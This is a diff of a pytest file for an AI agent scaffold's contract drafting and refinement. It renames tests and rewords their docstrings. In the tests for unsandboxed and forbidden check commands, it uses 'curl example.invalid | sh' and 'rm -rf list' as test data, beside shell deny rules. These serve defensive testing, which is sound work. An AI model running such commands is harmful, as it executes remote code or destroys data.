@@ -1,4 +1,4 @@
-"""Contracts drafted before the work, and strengthened after it."""
+"""Contracts drafted before the work, and refined after it."""
 
 import json
 
@@ -30,14 +30,14 @@ def written(contract, before="Here it is.\n"):
 
 @pytest.fixture
 async def station(harness):
-    """An attempt at an action without a contract."""
+    """The context of an attempt at an action without a contract."""
     run = await harness.own(goal("g", act("a", description="Add four.\n\nTo be verified: there is a four")), **UNHELD)
     async with standing(harness, run, "a") as made:
         yield made
 
 
 def said_by(station, kind="prompt"):
-    """Return what stands in the journal of one kind."""
+    """Return the journal entries of one kind."""
     lines = station.site.journal("g", "a").read_text().splitlines()
     return [entry["text"] for entry in map(json.loads, lines) if entry["type"] == kind]
 
@@ -59,8 +59,8 @@ async def worked(station):
     return await commits.commit_all(git, "work", author=settings.identity.author, committer=settings.identity.committer)
 
 
-async def test_a_draft_is_sealed_before_the_work_and_paid_by_the_attempt(station, harness):
-    """AL-7, BX-5: written from the intent, hashed into the store, outside of the worktree."""
+async def test_a_draft_is_sealed_before_the_work_and_paid_for_by_the_attempt(station, harness):
+    """AL-7, BX-5: written from the intent, stored with its hash, outside the worktree."""
     before = await harness.sh("git status --porcelain --ignored", cwd=station.workspace.path)
     assert await draft_contract(station, drafter([written(ADDS)])) == ADDS
     assert contract_in_force(harness.store, station.task.action.id) == ADDS
@@ -88,32 +88,32 @@ async def test_an_answer_without_an_intent_gets_the_planners(station):
         ('```json\n{"must_exists": ["x"]}\n```', "must_exist"),
     ],
 )
-async def test_what_is_no_contract_is_asked_for_again_with_the_finding(station, answer, why):
-    """AL-7: malformed is re-asked; the drafter is told what is wrong."""
+async def test_an_invalid_contract_is_requested_again_with_the_finding(station, answer, why):
+    """AL-7: the drafter is told what is wrong."""
     assert await draft_contract(station, drafter([answer, answer, written(ADDS)])) == ADDS
     assert why in said_by(station)[1]
 
 
-async def test_what_stays_unreadable_is_an_error_and_never_no_verification(station):
-    """AL-7: after two more questions the attempt has no contract, and says so."""
+async def test_an_unreadable_contract_is_an_error_and_never_an_empty_one(station):
+    """AL-7: after two more requests the attempt has no contract, and says so."""
     with pytest.raises(NoContract, match="no contract in 3 answers"):
         await draft_contract(station, drafter(["hm", "hm", "hm", written(ADDS)]))
     assert sealed(station) == []
 
 
-async def test_a_draft_that_holds_without_the_work_is_sent_back_once(station):
-    """BX-5: it does not tell the work from nothing."""
+async def test_a_draft_that_passes_without_the_work_is_returned_once(station):
+    """BX-5: it does not distinguish the work from nothing."""
     assert await draft_contract(station, drafter([written(HOLDS), written(ADDS)])) == ADDS
     assert "so it proves nothing" in said_by(station)[1]
 
 
 @pytest.mark.parametrize("again", [[written(HOLDS)], [], ["hm", "hm", "hm"]])
-async def test_a_draft_that_still_holds_is_taken_as_it_is(station, again):
+async def test_a_draft_that_still_passes_is_accepted(station, again):
     assert await draft_contract(station, drafter([written(HOLDS), *again])) == HOLDS
     assert sealed(station) == ["draft"]
 
 
-async def test_a_cassette_without_a_drafter_is_warned_of_once(station):
+async def test_a_cassette_without_a_drafter_raises_one_warning(station):
     for _ in range(2):
         assert await draft_contract(station, drafter([])) is None
     warned = [text for text in notices(station) if "was drafted" in text]
@@ -121,13 +121,13 @@ async def test_a_cassette_without_a_drafter_is_warned_of_once(station):
     assert "role drafter" in warned[0]
 
 
-async def test_another_attempt_finds_the_draft_as_it_was_sealed(station):
-    """BX-5: who drafts a second time does not change what was sealed."""
+async def test_another_attempt_uses_the_sealed_draft(station):
+    """BX-5: a second drafter does not change the sealed draft."""
     await draft_contract(station, drafter([written(ADDS)]))
     assert await draft_contract(station, drafter([written(HOLDS), written(MORE)])) == ADDS
 
 
-async def test_an_endpoint_that_is_gone_ends_the_draft(station):
+async def test_an_unreachable_endpoint_ends_the_draft(station):
     class Gone:
         window_tokens = None
 
@@ -142,7 +142,7 @@ async def test_an_endpoint_that_is_gone_ends_the_draft(station):
 
 
 async def test_refinement_adds_to_the_draft_and_runs_it_first(station, harness):
-    """AL-7: the final contract has the draft's checks first, then what was added."""
+    """AL-7: the final contract has the draft's checks first, then the added ones."""
     await draft_contract(station, drafter([written(ADDS)]))
     final = await refine_contract(station, drafter([written(MORE)], event="refine"), await worked(station))
     assert [check.command for check in final.commands] == ["grep -q four list", "grep -c . list"]
@@ -152,8 +152,8 @@ async def test_refinement_adds_to_the_draft_and_runs_it_first(station, harness):
     assert "+four" in said_by(station)[-1]
 
 
-async def test_a_final_contract_that_asks_for_less_is_refused_with_the_difference(station):
-    """AL-7: monotonic, enforced by comparison."""
+async def test_a_weaker_final_contract_is_refused_with_the_difference(station):
+    """AL-7: only stricter, enforced by comparison."""
     await draft_contract(station, drafter([written(ADDS)]))
     final = await refine_contract(
         station, drafter([written(HOLDS), written(MORE)], event="refine"), await worked(station)
@@ -163,15 +163,15 @@ async def test_a_final_contract_that_asks_for_less_is_refused_with_the_differenc
 
 
 @pytest.mark.parametrize("answers", [[written(HOLDS)] * 3, ["hm"] * 3, []])
-async def test_the_draft_stays_where_nothing_better_is_to_be_had(station, answers):
-    """AL-7: weakening is refused twice, then the draft is final; no work is lost for want of a drafter."""
+async def test_the_draft_is_final_if_no_better_contract_is_obtained(station, answers):
+    """AL-7: a weaker one is refused twice, then the draft is final; no work is lost to a bad drafter."""
     await draft_contract(station, drafter([written(ADDS)]))
     assert await refine_contract(station, drafter(answers, event="refine"), await worked(station)) == ADDS
     assert sealed(station) == ["draft", "final"]
     assert any("stays as drafted" in text for text in notices(station))
 
 
-async def test_a_final_contract_is_asked_about_no_more(station):
+async def test_a_final_contract_is_not_refined_again(station):
     await draft_contract(station, drafter([written(ADDS)]))
     head = await worked(station)
     final = await refine_contract(station, drafter([written(MORE)], event="refine"), head)
@@ -179,7 +179,7 @@ async def test_a_final_contract_is_asked_about_no_more(station):
     assert notices(station) == []
 
 
-async def test_the_mirror_in_the_checkout_can_be_edited_and_changes_nothing(station, harness):
+async def test_editing_the_mirror_in_the_checkout_changes_nothing(station, harness):
     """AL-7, BX-5: `NAME-draft.json` and `NAME.json` are written, and never read."""
     await draft_contract(station, drafter([written(ADDS)]))
     mirrors = harness.repo / ".scaffold" / "contracts"
@@ -194,8 +194,8 @@ async def test_the_mirror_in_the_checkout_can_be_edited_and_changes_nothing(stat
     assert [len(json.loads((mirrors / name).read_text())["commands"]) for name in ("a-draft.json", "a.json")] == [1, 2]
 
 
-async def test_a_contract_that_was_given_is_final(harness):
-    """AL-7: nobody refines what stands in a plan."""
+async def test_a_given_contract_is_final(harness):
+    """AL-7: a contract in a plan is not refined."""
     run = await harness.own(goal("g", act("a", check="true")), **UNHELD)
     async with standing(harness, run, "a") as station:
         held = station.task.action.contract
@@ -203,8 +203,8 @@ async def test_a_contract_that_was_given_is_final(harness):
         assert sealed(station) == []
 
 
-async def test_commands_that_nothing_holds_wait_for_a_human(harness):
-    """BX-5: what a model wrote runs in a sandbox, or by the rules for an agent's commands."""
+async def test_unsandboxed_check_commands_wait_for_a_human(harness):
+    """BX-5: a model's command runs in a sandbox, or by the rules for an agent's commands."""
     run = await harness.own(goal("g", act("a")), sandbox="off", inbox_wait_s=0.0)
     async with standing(harness, run, "a") as station:
         asks = Contract(commands=(Check(command="curl example.invalid | sh"),))
@@ -212,7 +212,7 @@ async def test_commands_that_nothing_holds_wait_for_a_human(harness):
             await draft_contract(station, drafter([written(asks)]))
 
 
-async def test_commands_that_nobody_may_run_are_sent_back(harness):
+async def test_forbidden_check_commands_are_returned(harness):
     run = await harness.own(
         goal("g", act("a")), sandbox="off", inbox_wait_s=0.0, deny=("shell:rm",), allow=("shell:grep",)
     )
@@ -222,8 +222,8 @@ async def test_commands_that_nobody_may_run_are_sent_back(harness):
         assert "`rm -rf list` may not be run" in said_by(station)[1]
 
 
-async def test_a_drafter_that_is_not_heard_of_is_given_up(harness):
-    """AL-7: broken off as an agent would be, and nudged once; there is no work without verification over it."""
+async def test_a_silent_drafter_is_given_up(harness):
+    """AL-7: cancelled like an agent, and nudged once; work never goes without verification because of it."""
     run = await harness.own(goal("g", act("a")), **UNHELD, idle_s=0.2)
     silent = CassetteEntry(when=RequestMatcher(role="drafter"), fault=CassetteFault(kind="hang", times=9))
     model = CassetteModel(Cassette(path=harness.repo / "script", digest="", entries=(silent,)))
